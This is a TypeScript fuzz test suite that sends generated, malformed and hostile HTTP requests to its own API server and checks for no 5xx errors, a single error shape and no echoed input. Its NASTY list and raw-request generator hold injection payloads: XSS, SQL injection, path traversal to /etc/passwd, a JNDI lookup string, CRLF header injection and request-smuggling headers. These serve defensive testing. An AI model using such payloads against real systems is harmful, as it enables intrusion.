// Requests generated from the served /openapi.json (valid and invalid path and query parameters, odd methods, headers and bodies, junk paths, malformed raw requests) never get a 5xx, every error outside JSON-RPC is in the one error shape with the common headers and its request id, no error body quotes the request back, and a raw request that asks to close its connection gets one answer.
import { METHODS } from 'node:http';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { defaultLimits, memoryMeter } from '../../src/http/index.ts';
import { btcA, btcMarketA, btcMarketB, fed, fedMarkets, signal, treaty, treatyMarket } from '../serve/seed.ts';
import { rawRequest } from './raw-http.ts';
import { type Started, startServer } from './rest-helpers.ts';

/** The seed of a run without `PMREF_FUZZ_SEED`: the one CI uses, so that a red build is the code's doing. */
const DEFAULT_SEED = 20261125;

/**
 * The run's seed, printed in the summary and on every failure. Without `PMREF_FUZZ_SEED` it is DEFAULT_SEED,
 * so `npm test` sends the same requests every time and a failure replays as it is. `PMREF_FUZZ_SEED=random`
 * draws a fresh one for exploration (a fuzz suite that always sends the same requests stops finding
 * anything); `PMREF_FUZZ_SEED=<n>` replays run `n`. A failure found at random is fixed with a deterministic
 * regression test of its own (e.g. test/e2e/pre-routing-errors.test.ts), not by moving the default seed.
 */
function seedOf(value: string | undefined): number {
  if (value === undefined || value === '') return DEFAULT_SEED;
  if (value === 'random') return Math.floor(Math.random() * 2 ** 31);
  const n = Number(value);
  if (!Number.isSafeInteger(n)) throw new Error(`PMREF_FUZZ_SEED must be an integer or "random", not ${value}`);
  return n;
}
const SEED = seedOf(process.env.PMREF_FUZZ_SEED);
/** In-process requests (`app.inject`) and raw requests to a listening server, per run. */
const INJECT_REQUESTS = 2400;
const RAW_REQUESTS = 400;
/** Paths that speak JSON-RPC: their error answers may be JSON-RPC error objects instead of the one shape. */
const JSON_RPC_PATHS = new Set(['/mcp', '/a2a']);
/** Paths the service serves outside the OpenAPI document (agent faces, site, discovery). */
const OFF_DOCUMENT_PATHS = [
  '/mcp',
  '/a2a',
  '/.well-known/agent-card.json',
  '/openapi.json',
  '/llms.txt',
  '/docs/',
  '/methodology',
  '/screens/',
  '/screens/index.json',
  '/schemas/market.json',
  `/events/${fed.slug}`,
  '/v1/signals.rss',
];

interface FuzzRequest {
  method: string;
  /** Path and query, as sent. */
  url: string;
  headers: Record<string, string>;
  body?: string;
  /** The generated (not picked) strings in the request: none may come back in an error body. */
  inputs: string[];
}

interface Outcome {
  status: number;
  headers: Record<string, string | string[] | undefined>;
  body: string;
}

interface Tally {
  sent: number;
  byStatus: Map<number, number>;
  errors: number;
  inShape: number;
  jsonRpc: number;
  /** Event streams opened (`/v1/changes/stream`): answered with their head, then left open. */
  streams: number;
  failures: string[];
}

const newTally = (): Tally => ({
  sent: 0,
  byStatus: new Map(),
  errors: 0,
  inShape: 0,
  jsonRpc: 0,
  streams: 0,
  failures: [],
});

type Json = Record<string, unknown>;
interface Param {
  name: string;
  in: string;
  example?: unknown;
}

// ---------------------------------------------------------------- values

/** Strings that have broken services before: markup, injection, traversal, control characters, numbers. */
const NASTY = [
  '<script>alert(1)</script>',
  "' OR 1=1 --pmref",
  '../../../etc/passwd',
  '$' + '{jndi:ldap://pmref.invalid/a}',
  '{{7*7}}pmref',
  'line\r\nX-Injected: pmref',
  '\u0000nul-pmref',
  '\u202eRTL-override-pmref',
  '\ud800lone-surrogate',
  'ƒüzz-ünïcødé-пмреф-🎲🎲',
  '1e309',
  '-1',
  '0',
  'NaN',
  '99999999999999999999999',
  '2026-13-45T99:99:99Z',
  '',
  ' ',
  'null',
  '[]',
  '__proto__',
  'constructor',
];

const oddText: fc.Arbitrary<string> = fc.oneof(
  { weight: 3, arbitrary: fc.string({ unit: 'grapheme', maxLength: 40 }) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 24 }) },
  { weight: 2, arbitrary: fc.constantFrom(...NASTY) },
  { weight: 1, arbitrary: fc.integer({ min: -1e9, max: 1e12 }).map(String) },
  { weight: 1, arbitrary: fc.double({ noNaN: false }).map(String) },
  { weight: 1, arbitrary: fc.string({ unit: 'grapheme-ascii', minLength: 200, maxLength: 900 }) },
);

/** Percent-encodes a value, or (sometimes) sends it with broken escapes or raw reserved characters. */
function encoded(value: fc.Arbitrary<string>): fc.Arbitrary<{ text: string; sent: string }> {
  return fc.tuple(value, fc.constantFrom('encode', 'encode', 'encode', 'broken', 'reserved')).map(([text, how]) => {
    const safe = encodeURIComponent(text.replace(/[\ud800-\udfff]/g, '?'));
    if (how === 'broken') return { text, sent: `${safe}%${'zZ%C0%E0%A4%'.slice(text.length % 6)}` };
    if (how === 'reserved') return { text, sent: safe.replace(/%2F/g, '/').replace(/%3F/g, '?').replace(/%26/g, '&') };
    return { text, sent: safe };
  });
}

// ---------------------------------------------------------------- request generators

const VALID_REFS: Record<string, string[]> = {
  slug: [fed.slug, treaty.slug, btcA.slug, fed.event_id, signal.record_slug],
  id: [
    btcMarketA.market_id,
    btcMarketB.market_id,
    treatyMarket.market_id,
    ...fedMarkets.map((m) => m.market_id),
    'movers',
  ],
};

const headerValue = fc.string({
  unit: fc.integer({ min: 0x20, max: 0x7e }).map((c) => String.fromCharCode(c)),
  maxLength: 60,
});

/** Up to three headers a client might send, valid or not (an Authorization in one request of about ten). */
const headersArb: fc.Arbitrary<{ headers: Record<string, string>; inputs: string[] }> = fc
  .array(
    fc.oneof(
      fc.tuple(
        fc.constant('accept-encoding'),
        fc.constantFrom('gzip', 'br', 'br, gzip', 'gzip;q=0', 'identity', '*', 'deflate, x-junk'),
      ),
      fc.tuple(fc.constant('if-none-match'), fc.oneof(fc.constantFrom('*', '"g1-x"', 'W/"nope"'), headerValue)),
      fc.tuple(
        fc.constant('content-type'),
        fc.constantFrom(
          'application/json',
          'application/json; charset=utf-8',
          'text/plain',
          'application/x-www-form-urlencoded',
          'application/xml',
          'multipart/form-data; boundary=x',
          'application/json; charset=utf-16',
          'junk',
        ),
      ),
      fc.tuple(
        fc.constant('accept'),
        fc.constantFrom('application/json', 'text/event-stream', 'text/html', '*/*', 'image/png'),
      ),
      fc.tuple(fc.constant('x-forwarded-for'), fc.constantFrom('203.0.113.9', 'not-an-ip', '1.1.1.1, 2.2.2.2')),
      fc.tuple(fc.constant('range'), fc.constantFrom('bytes=0-10', 'bytes=abc')),
      fc.tuple(fc.constant('origin'), fc.constantFrom('https://evil.example', 'null')),
      fc.tuple(fc.constant('x-pmref-fuzz'), headerValue),
    ),
    { maxLength: 3 },
  )
  .chain((pairs) =>
    fc
      .oneof(
        { weight: 9, arbitrary: fc.constant(null) },
        {
          weight: 1,
          arbitrary: fc.oneof(
            headerValue.map((v) => `Bearer ${v}`),
            fc.constantFrom('Bearer', 'Basic dXNlcjpwYXNz', 'Bearer pmref_0000000000000000'),
          ),
        },
      )
      .map((authorization) => {
        const headers: Record<string, string> = Object.fromEntries(pairs);
        if (authorization !== null) headers.authorization = authorization;
        const inputs: string[] = [];
        if (headers['x-pmref-fuzz']) inputs.push(headers['x-pmref-fuzz']);
        if (authorization?.startsWith('Bearer ')) inputs.push(authorization.slice(7));
        return { headers, inputs };
      }),
  );

const bodyArb: fc.Arbitrary<{ body: string; inputs: string[] }> = fc.oneof(
  fc.jsonValue().map((v) => ({ body: JSON.stringify(v), inputs: [] })),
  oddText.map((email) => ({ body: JSON.stringify({ email }), inputs: [email] })),
  fc.emailAddress().map((email) => ({ body: JSON.stringify({ email }), inputs: [] })),
  oddText.map((text) => ({ body: text, inputs: [text] })),
  fc.constantFrom('', '{', '{"email":', 'null', '[]', '{"__proto__":{"x":1}}').map((body) => ({ body, inputs: [] })),
  fc.integer({ min: 4000, max: 70_000 }).map((n) => ({ body: JSON.stringify({ pad: 'p'.repeat(n) }), inputs: [] })),
  fc
    .record({
      id: fc.oneof(fc.integer(), fc.string({ maxLength: 8 }), fc.constant(null)),
      method: fc.constantFrom('tools/list', 'tools/call', 'initialize', 'message/send', 'SendMessage', 'nope'),
      params: fc.jsonValue(),
    })
    .map((rpc) => ({ body: JSON.stringify({ jsonrpc: '2.0', ...rpc }), inputs: [] })),
);

/** A request for one documented operation: mostly its own method, with valid or odd parameters. */
function operationRequest(template: string, method: string, params: Param[]): fc.Arbitrary<FuzzRequest> {
  const pathParams = params.filter((p) => p.in === 'path');
  const queryParams = params.filter((p) => p.in === 'query');
  const pathArb = fc.tuple(
    ...pathParams.map((p) =>
      fc.oneof(
        fc
          .constantFrom(...(VALID_REFS[p.name] ?? [String(p.example ?? 'x')]))
          .map((v) => ({ text: v, sent: v, odd: false })),
        encoded(oddText).map((e) => ({ ...e, odd: true })),
      ),
    ),
  );
  const queryArb = fc.array(
    fc.tuple(
      fc.oneof(
        { weight: 8, arbitrary: fc.constantFrom(...queryParams.map((p) => p.name), 'limit') },
        { weight: 1, arbitrary: fc.constant('key') },
        { weight: 1, arbitrary: fc.string({ unit: 'grapheme-ascii', minLength: 1, maxLength: 10 }) },
      ),
      fc.oneof(
        fc
          .constantFrom(...queryParams.map((p) => String(p.example ?? '1')), '0', '-5', '100000', '2026-11-20', 'true')
          .map((v) => ({ text: v, sent: encodeURIComponent(v), odd: false })),
        encoded(oddText).map((e) => ({ ...e, odd: true })),
      ),
    ),
    { maxLength: 5 },
  );
  const methodArb = fc.oneof(
    { weight: 6, arbitrary: fc.constant(method) },
    { weight: 1, arbitrary: fc.constantFrom(...METHODS.filter((m) => m !== 'CONNECT')) },
  );
  return fc
    .record({ method: methodArb, path: pathArb, query: queryArb, h: headersArb, b: fc.option(bodyArb) })
    .map(({ method: m, path, query, h, b }) => {
      let i = 0;
      const url = template.replace(/\{[^}]+\}/g, () => path[i++]?.sent ?? 'x');
      const qs = query.map(([k, v]) => `${encodeURIComponent(k)}=${v.sent}`).join('&');
      const inputs = [...h.inputs];
      for (const p of path) if (p.odd) inputs.push(p.text);
      for (const [, v] of query) if (v.odd) inputs.push(v.text);
      const withBody = b !== null && m !== 'GET' && m !== 'HEAD';
      if (withBody) inputs.push(...b.inputs);
      // Most bodies say they are JSON, so that the routes behind the body parser are reached.
      const headers =
        withBody && !h.headers['content-type'] ? { ...h.headers, 'content-type': 'application/json' } : h.headers;
      return {
        method: m,
        url: qs ? `${url}?${qs}` : url,
        headers,
        ...(withBody ? { body: b.body } : {}),
        inputs,
      };
    });
}

/** Junk: random paths, known prefixes with random tails, odd slashes and dots. */
const junkRequest: fc.Arbitrary<FuzzRequest> = fc
  .record({
    method: fc.constantFrom(...METHODS.filter((m) => m !== 'CONNECT')),
    path: fc.oneof(
      fc.webPath().map((p) => (p.startsWith('/') ? p : `/${p}`)),
      fc
        .tuple(
          fc.constantFrom(
            '/v1/',
            '/v1/events/',
            '/v1/markets/',
            '/screens/',
            '/schemas/',
            '/docs/',
            '/.well-known/',
            '//',
          ),
          encoded(oddText),
        )
        .map(([prefix, e]) => `${prefix}${e.sent}`),
      fc.constantFrom(
        '/..',
        '/%2e%2e/%2e%2e/etc/passwd',
        '/v1/events/..%2f..%2f',
        '/v1//events',
        '/%00',
        '/v1/events/%2F',
        '/?',
      ),
    ),
    h: headersArb,
    b: fc.option(bodyArb),
  })
  .map(({ method, path, h, b }) => {
    const withBody = b !== null && method !== 'GET' && method !== 'HEAD';
    return {
      method,
      url: path,
      headers: h.headers,
      ...(withBody ? { body: b.body } : {}),
      inputs: [...h.inputs, ...(path.length >= 12 ? [path] : []), ...(withBody ? b.inputs : [])],
    };
  });

// ---------------------------------------------------------------- checks

/** Strings a body must not contain: the generated inputs, as sent and decoded, long enough to mean an echo. */
function echoCandidates(req: FuzzRequest): string[] {
  const out = new Set<string>();
  const add = (s: string): void => {
    const t = s.trim();
    if (t.length >= 8) out.add(t);
  };
  for (const input of req.inputs) {
    add(input);
    try {
      add(decodeURIComponent(input));
    } catch {
      // not percent-encoded text
    }
  }
  const q = req.url.indexOf('?');
  if (q !== -1) add(req.url.slice(q + 1));
  return [...out];
}

function pathOf(url: string): string {
  const q = url.indexOf('?');
  const path = q === -1 ? url : url.slice(0, q);
  return path.length > 1 ? path.replace(/\/+$/, '') : path;
}

/** What is wrong with an error body and its headers, against the one shape; empty when nothing is. */
function shapeFaults(b: Json, isObject: boolean, res: Outcome): string[] {
  if (!isObject) return ['the body is not a JSON object'];
  const faults: string[] = [];
  const extra = Object.keys(b).filter((k) => !['error', 'code', 'hint', 'request_id'].includes(k));
  if (extra.length > 0) faults.push(`unexpected keys ${extra.join(', ')}`);
  if (typeof b.error !== 'string') faults.push('error is not a string');
  if (typeof b.code !== 'string') faults.push('code is not a string');
  if (b.hint !== undefined && typeof b.hint !== 'string') faults.push('hint is not a string');
  if (typeof b.request_id !== 'string') faults.push('request_id is not a string');
  const header = res.headers['x-request-id'];
  if (header === undefined) faults.push('no X-Request-Id header');
  else if (header !== b.request_id) faults.push(`X-Request-Id ${JSON.stringify(header)} is not the body's request_id`);
  if (res.headers['x-schema-version'] === undefined) faults.push('no common headers (X-Schema-Version)');
  return faults;
}

/** Checks one response; records it in the tally. `wire` is the raw request, for a raw run's failures. */
function judge(tally: Tally, req: FuzzRequest, res: Outcome, wire?: string): void {
  tally.sent++;
  tally.byStatus.set(res.status, (tally.byStatus.get(res.status) ?? 0) + 1);
  const what = () =>
    `${req.method} ${JSON.stringify(req.url.slice(0, 300))} headers=${JSON.stringify(req.headers)} body=${JSON.stringify((req.body ?? '').slice(0, 200))} -> ${res.status} ${res.body.slice(0, 400)}` +
    (wire === undefined ? '' : ` wire=${JSON.stringify(wire.slice(0, 400))}`);
  if (res.status >= 500) tally.failures.push(`5xx: ${what()}`);
  if ((res.status >= 200 && res.status < 300) || res.status === 304) return;
  if (req.method === 'HEAD') return;
  tally.errors++;
  let body: unknown;
  try {
    body = JSON.parse(res.body);
  } catch {
    tally.failures.push(`error body is not JSON: ${what()}`);
    return;
  }
  const isObject = typeof body === 'object' && body !== null && !Array.isArray(body);
  const b = (isObject ? body : {}) as Json;
  if (JSON_RPC_PATHS.has(pathOf(req.url)) && b.jsonrpc === '2.0') {
    tally.jsonRpc++;
    return;
  }
  const faults = shapeFaults(b, isObject, res);
  if (faults.length === 0) tally.inShape++;
  else tally.failures.push(`not the one error shape (${faults.join('; ')}): ${what()}`);
  const texts = [res.body, ...Object.values(b).filter((v): v is string => typeof v === 'string')];
  for (const input of echoCandidates(req)) {
    if (texts.some((t) => t.includes(input))) tally.failures.push(`echoes ${JSON.stringify(input)}: ${what()}`);
  }
}

/**
 * The body of an in-process answer read as a stream: whole, or for an event stream (open-ended) what arrives in
 * the first 200 ms, after which the stream is dropped (the client leaves).
 */
async function bodyOf(
  stream: NodeJS.ReadableStream & { destroy(): void },
  headers: Outcome['headers'],
): Promise<string> {
  const chunks: Buffer[] = [];
  if (!String(headers['content-type'] ?? '').startsWith('text/event-stream')) {
    for await (const chunk of stream) chunks.push(Buffer.from(chunk as Buffer));
    return Buffer.concat(chunks).toString('utf8');
  }
  stream.on('data', (chunk: Buffer) => chunks.push(Buffer.from(chunk)));
  await new Promise((resolve) => setTimeout(resolve, 200));
  stream.destroy();
  return Buffer.concat(chunks).toString('utf8');
}

function summary(name: string, t: Tally, ms: number): string {
  const statuses = [...t.byStatus.entries()].sort(([a], [b]) => a - b).map(([s, n]) => `${s}:${n}`);
  const fives = [...t.byStatus.entries()].filter(([s]) => s >= 500).reduce((n, [, c]) => n + c, 0);
  const outside = t.errors - t.jsonRpc;
  const share = outside === 0 ? 100 : (100 * t.inShape) / outside;
  return (
    `[fuzz ${name}] seed=${SEED} requests=${t.sent} in ${(ms / 1000).toFixed(1)} s; by status ${statuses.join(' ')}; ` +
    `5xx=${fives}; error responses=${t.errors} (JSON-RPC ${t.jsonRpc}); in the one error shape ${t.inShape}/${outside} ` +
    `(${share.toFixed(1)}%); event streams opened ${t.streams}`
  );
}

function failuresOf(t: Tally): string {
  return `seed ${SEED} (PMREF_FUZZ_SEED=${SEED} replays it):\n${t.failures.slice(0, 15).join('\n')}`;
}

// ---------------------------------------------------------------- the runs

let s: Started;
let doc: Json;
let port: number;
beforeAll(async () => {
  // A daily limit no run reaches: a 429 for every request after the 1,000th would hide the routes behind it.
  s = await startServer({ limits: defaultLimits({ meter: memoryMeter(), anonDaily: 1_000_000 }) });
  port = Number(new URL(s.base).port);
  doc = (await s.app.inject('/openapi.json')).json() as Json;
});
afterAll(async () => {
  await s.close();
});

/** Every documented operation's generator, and the junk and off-document ones. */
function requestArb(): fc.Arbitrary<FuzzRequest> {
  const ops: fc.Arbitrary<FuzzRequest>[] = [];
  for (const [template, operations] of Object.entries(doc.paths as Record<string, Record<string, Json>>)) {
    for (const [method, op] of Object.entries(operations)) {
      ops.push(operationRequest(template, method.toUpperCase(), (op.parameters ?? []) as Param[]));
    }
  }
  for (const path of OFF_DOCUMENT_PATHS) {
    ops.push(operationRequest(path, path === '/mcp' || path === '/a2a' ? 'POST' : 'GET', []));
  }
  return fc.oneof({ weight: 5, arbitrary: fc.oneof(...ops) }, { weight: 1, arbitrary: junkRequest });
}

describe('fuzz', () => {
  it('covers every documented operation', () => {
    const paths = Object.keys(doc.paths as Json);
    expect(paths.length).toBeGreaterThanOrEqual(14);
  });

  it(`answers ${INJECT_REQUESTS} generated requests in process without a 5xx, errors in the one shape`, async () => {
    const tally = newTally();
    const started = Date.now();
    const requests = fc.sample(requestArb(), { numRuns: INJECT_REQUESTS, seed: SEED });
    for (const req of requests) {
      const res = await s.app.inject({
        method: req.method as 'GET',
        url: req.url,
        headers: req.headers,
        ...(req.body !== undefined ? { payload: req.body } : {}),
        payloadAsStream: true,
      });
      const headers = res.headers as Outcome['headers'];
      if (res.statusCode === 200 && String(headers['content-type']).startsWith('text/event-stream')) tally.streams++;
      judge(tally, req, { status: res.statusCode, headers, body: await bodyOf(res.stream(), headers) });
    }
    console.log(summary('inject', tally, Date.now() - started));
    expect(tally.sent).toBe(INJECT_REQUESTS);
    expect(tally.streams, 'the generated requests open the change stream too').toBeGreaterThan(0);
    expect(tally.failures, failuresOf(tally)).toEqual([]);
  });

  it(`answers ${RAW_REQUESTS} raw requests (odd methods, malformed lines, half-closed sockets) in the one shape`, async () => {
    const tally = newTally();
    const started = Date.now();
    const requests = fc.sample(rawArb(requestArb()), { numRuns: RAW_REQUESTS, seed: SEED + 1 });
    const noAnswer: string[] = [];
    const queue = [...requests];
    const worker = async (): Promise<void> => {
      for (let next = queue.shift(); next; next = queue.shift()) {
        const { req, wire, halfClose } = next;
        // Every wire asks `Connection: close`: read until the server closes, so a second answer is seen too.
        const got = await rawRequest(port, wire, {
          halfClose,
          timeoutMs: 5000,
          responses: Number.POSITIVE_INFINITY,
          bodiless: [req.method === 'HEAD'],
        });
        const res = got.responses[0];
        // An event stream stays open after its head (Connection: close applies once it ends): not a hang.
        const streaming = res?.status === 200 && String(res.headers['content-type']).startsWith('text/event-stream');
        if (streaming) tally.streams++;
        if (!res) {
          noAnswer.push(
            `${got.timedOut ? 'no answer in 5 s' : 'closed without an answer'}: ${JSON.stringify(wire.slice(0, 300))}`,
          );
          tally.sent++;
          continue;
        }
        judge(tally, req, { status: res.status, headers: res.headers, body: res.body }, wire);
        if (got.responses.length > 1 || (got.timedOut && !streaming)) {
          tally.failures.push(
            `${got.responses.length} responses${got.timedOut ? ', not closed in 5 s' : ''} to one request asking Connection: close: ` +
              `${got.responses.map((r) => r.status).join(', ')} wire=${JSON.stringify(wire.slice(0, 300))}`,
          );
        }
      }
    };
    await Promise.all(Array.from({ length: 8 }, worker));
    console.log(`${summary('raw', tally, Date.now() - started)}; unanswered ${noAnswer.length}`);
    expect(noAnswer, `seed ${SEED}:\n${noAnswer.slice(0, 10).join('\n')}`).toEqual([]);
    expect(tally.failures, failuresOf(tally)).toEqual([]);
  });
});

/** A generated request as raw bytes, sometimes with its request line or headers broken. */
function rawArb(base: fc.Arbitrary<FuzzRequest>): fc.Arbitrary<{ req: FuzzRequest; wire: string; halfClose: boolean }> {
  return fc
    .record({
      req: base,
      method: fc.oneof(
        { weight: 12, arbitrary: fc.constant(null) },
        { weight: 2, arbitrary: fc.constantFrom(...METHODS) },
        { weight: 1, arbitrary: fc.constantFrom('FOO', 'get', 'GÉT', 'G ET', '', 'PRI', 'BREW') },
      ),
      version: fc.oneof(
        { weight: 12, arbitrary: fc.constant('HTTP/1.1') },
        { weight: 1, arbitrary: fc.constantFrom('HTTP/1.0', 'HTTP/2.0', 'HTTP/1.1x', '') },
      ),
      extraHeader: fc.oneof(
        { weight: 6, arbitrary: fc.constant(null) },
        {
          weight: 3,
          arbitrary: fc.constantFrom(
            'Broken-Header-Without-Colon',
            'Content-Length: 5\r\nContent-Length: 6',
            'Transfer-Encoding: chunked',
            'Expect: 100-continue',
            'Expect: pmref-odd',
            'Upgrade: websocket\r\nConnection: Upgrade',
            `X-Big: ${'b'.repeat(17_000)}`,
            'Host: a\r\nHost: b',
          ),
        },
      ),
      rawTarget: fc.oneof(
        { weight: 12, arbitrary: fc.constant(null) },
        {
          weight: 1,
          arbitrary: fc.constantFrom('*', 'http://pmref.test/v1/spot', 'pmref.test:443', '/v1/events?q=a b', '/\t/'),
        },
      ),
      halfClose: fc.boolean(),
    })
    .map(({ req, method, version, extraHeader, rawTarget, halfClose }) => {
      const m = method ?? req.method;
      const target = rawTarget ?? req.url;
      const lines = [`${m} ${target} ${version}`.trimEnd(), 'Host: pmref.test', 'Connection: close'];
      for (const [k, v] of Object.entries(req.headers)) lines.push(`${k}: ${v}`);
      if (extraHeader) lines.push(extraHeader);
      const body = req.body ?? '';
      const chunked = extraHeader === 'Transfer-Encoding: chunked';
      if (!chunked && !extraHeader?.startsWith('Content-Length'))
        lines.push(`Content-Length: ${Buffer.byteLength(body)}`);
      // An empty chunked body is the last chunk alone (`0\r\n\r\n` twice would be a stray request behind it).
      const size = Buffer.byteLength(body);
      const payload = chunked ? `${size === 0 ? '' : `${size.toString(16)}\r\n${body}\r\n`}0\r\n\r\n` : body;
      const sent: FuzzRequest = { ...req, method: m, url: target };
      // A body shorter than a Content-Length the server waits for would wait forever: shut the write side then.
      return {
        req: sent,
        wire: `${lines.join('\r\n')}\r\n\r\n${payload}`,
        halfClose: halfClose || extraHeader !== null,
      };
    });
}
